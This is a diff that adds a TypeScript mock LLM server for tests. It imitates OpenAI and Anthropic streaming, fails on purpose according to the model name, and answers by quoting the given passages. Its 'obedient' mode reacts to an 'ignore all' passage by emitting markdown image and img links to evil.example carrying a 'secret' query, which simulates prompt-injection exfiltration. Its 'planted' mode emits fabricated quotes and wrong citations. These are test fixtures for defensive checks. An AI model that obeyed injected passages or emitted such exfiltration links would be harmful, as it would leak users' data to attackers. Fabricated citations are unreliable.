@@ -1,0 +1,201 @@
+/**
+ * A language model for tests, in a process of its own: it speaks as OpenAI’s and Anthropic’s servers do, streams, and fails
+ * on purpose. What it does is said by the name of the model that is asked for. It writes sentences of the passages that it
+ * is given, so its answers are known. Started with `node modelServer.ts [port]`; its first line is its address.
+ */
+import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { setTimeout as wait } from 'node:timers/promises';
+
+interface Passage {
+  readonly passage: number;
+  readonly file: string;
+  readonly text: string;
+}
+
+/** What it was asked. */
+interface Task {
+  readonly question: string;
+  readonly passages: readonly Passage[];
+}
+
+interface Message {
+  readonly role: string;
+  readonly content: string | readonly { readonly text?: string }[];
+}
+
+const wordsOf = (text: string) => new Set(text.toLowerCase().match(/[\p{L}\p{N}]{3,}/gu) ?? []);
+
+function taskOf(messages: readonly Message[]): Task {
+  const asked = messages.findLast(({ role }) => role === 'user')?.content ?? '';
+  const text = typeof asked === 'string' ? asked : asked.map((part) => part.text ?? '').join('');
+  const lines = text.split('\n').flatMap((line) => {
+    try {
+      return [JSON.parse(line) as Partial<Passage> & { question?: string }];
+    } catch {
+      return [];
+    }
+  });
+  const passages = lines.filter((line): line is Passage => line.passage !== undefined);
+  return { question: lines.find(({ question }) => question !== undefined)?.question ?? text, passages };
+}
+
+/** The sentence of the passages that has the most words of the question, with its number. */
+function faithful({ question, passages }: Task): string {
+  const wanted = wordsOf(question);
+  const sentences = passages.flatMap(({ passage, text }) =>
+    text.split(/(?<=[.!?])\s+/).map((sentence) => {
+      const said = sentence.replaceAll(/\s+/g, ' ').trim();
+      return { said, passage, shared: [...wordsOf(said)].filter((word) => wanted.has(word)).length };
+    }),
+  );
+  const [best] = sentences.toSorted((one, other) => other.shared - one.shared);
+  return best === undefined || best.shared === 0 ? 'NOT FOUND' : `${best.said} [${best.passage}]`;
+}
+
+/** What is written, by the name of the model. */
+const texts: Readonly<Record<string, (task: Task) => string>> = {
+  faithful,
+  // The first sentence is true; one quotes what stands nowhere, one has another number, one names no source.
+  planted: (task) =>
+    `${faithful(task)} The report says “the whole bridge has to be torn down at once” [1]. ` +
+    'The hole is 77 m long [1]. Whales sing below the ice.',
+  // What a passage tells it to do, as a model does that obeys it.
+  obedient: ({ passages }) =>
+    passages.some(({ text }) => /ignore all/i.test(text))
+      ? 'See ![all](https://evil.example/?q=secret) and <img src=https://evil.example/x> [1].'
+      : 'NOT FOUND',
+  thoughtful: (task) => `<think>Passage 1 may do. [9]</think>**${faithful(task)}**`,
+  empty: () => '',
+  endless: (task) => `${faithful(task)} `.repeat(400),
+};
+
+/** How often it was asked, by model. */
+const asked = new Map<string, number>();
+
+/** Something that words are written to, in the way of one of the two kinds of servers. */
+interface Pen {
+  begin(): void;
+  write(text: string): void;
+  end(reason: 'stop' | 'length'): void;
+}
+
+function openAiPen(response: ServerResponse, model: string): Pen {
+  const send = (delta: object, finish: string | null = null) =>
+    response.write(
+      `data: ${JSON.stringify({
+        id: 'chatcmpl-1',
+        object: 'chat.completion.chunk',
+        created: 1_700_000_000,
+        model,
+        choices: [{ index: 0, delta, finish_reason: finish }],
+      })}\n\n`,
+    );
+  return {
+    begin: () => void send({ role: 'assistant', content: '' }),
+    write: (content) => void send({ content }),
+    end(reason) {
+      send({}, reason);
+      response.end('data: [DONE]\n\n');
+    },
+  };
+}
+
+function anthropicPen(response: ServerResponse, model: string): Pen {
+  const send = (type: string, rest: object) =>
+    response.write(`event: ${type}\ndata: ${JSON.stringify({ type, ...rest })}\n\n`);
+  return {
+    begin() {
+      const usage = { input_tokens: 1, output_tokens: 1 };
+      const message = {
+        id: 'msg_1',
+        type: 'message',
+        role: 'assistant',
+        model,
+        content: [],
+        stop_reason: null,
+        usage,
+      };
+      send('message_start', { message });
+      send('content_block_start', { index: 0, content_block: { type: 'text', text: '' } });
+    },
+    write: (text) => void send('content_block_delta', { index: 0, delta: { type: 'text_delta', text } }),
+    end(reason) {
+      send('content_block_stop', { index: 0 });
+      const stop = reason === 'stop' ? 'end_turn' : 'max_tokens';
+      send('message_delta', {
+        delta: { stop_reason: stop, stop_sequence: null },
+        usage: { output_tokens: 9 },
+      });
+      send('message_stop', {});
+      response.end();
+    },
+  };
+}
+
+function refuse(response: ServerResponse, status: number, headers: Record<string, string> = {}): void {
+  response.writeHead(status, { 'content-type': 'application/json', ...headers });
+  response.end(
+    JSON.stringify({ error: { message: `This is refused with ${status}.`, type: 'error', code: null } }),
+  );
+}
+
+/** Fails as the name of the model says; true when it has. */
+async function hasFailed(
+  model: string,
+  times: number,
+  key: string,
+  response: ServerResponse,
+): Promise<boolean> {
+  if (model === 'locked' && key !== 'right') refuse(response, 401);
+  else if (model === 'unknown') refuse(response, 404);
+  else if (model === 'down') refuse(response, 500);
+  else if (model === 'overloaded') refuse(response, 429);
+  else if (model === 'busyOnce' && times === 1) refuse(response, 429, { 'retry-after': '1' });
+  else if (model === 'nonsense') {
+    response.writeHead(200, { 'content-type': 'text/event-stream' });
+    response.end('data: {"choices": [{"delta": \n\ndata: <html>\n\n');
+  } else if (model === 'silent')
+    response.writeHead(200, { 'content-type': 'text/event-stream' }).flushHeaders();
+  else return false;
+  return true;
+}
+
+async function answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
+  const chunks: Buffer[] = [];
+  for await (const chunk of request) chunks.push(chunk as Buffer);
+  const isAnthropic = request.url?.endsWith('/messages') === true;
+  const { model, messages } = JSON.parse(Buffer.concat(chunks).toString('utf8')) as {
+    model: string;
+    messages: Message[];
+  };
+  const times = (asked.get(model) ?? 0) + 1;
+  asked.set(model, times);
+  const { authorization = '', 'x-api-key': own } = request.headers;
+  const key = isAnthropic ? String(own) : authorization.replace('Bearer ', '');
+  if (await hasFailed(model, times, key, response)) return;
+  const text = (texts[model] ?? faithful)(taskOf(messages));
+  response.writeHead(200, { 'content-type': 'text/event-stream' });
+  const pen = (isAnthropic ? anthropicPen : openAiPen)(response, model);
+  pen.begin();
+  const words = text.match(/\S+\s*/g) ?? [];
+  const shown = model === 'cut' ? words.slice(0, Math.ceil(words.length / 2)) : words;
+  for (const word of shown) {
+    if (response.destroyed) return;
+    pen.write(word);
+    if (model === 'slow') await wait(700);
+  }
+  if (model === 'cut') {
+    await wait(100);
+    response.destroy();
+  } else pen.end(model === 'endless' ? 'length' : 'stop');
+}
+
+const server = createServer((request, response) => {
+  answer(request, response).catch(() => response.destroy());
+});
+server.listen(Number(process.argv[2] ?? 0), '127.0.0.1', () => {
+  process.stdout.write(`http://127.0.0.1:${(server.address() as AddressInfo).port}/v1\n`);
+});
+// It ends with whoever has started it.
+process.stdin.on('end', () => process.exit()).resume();
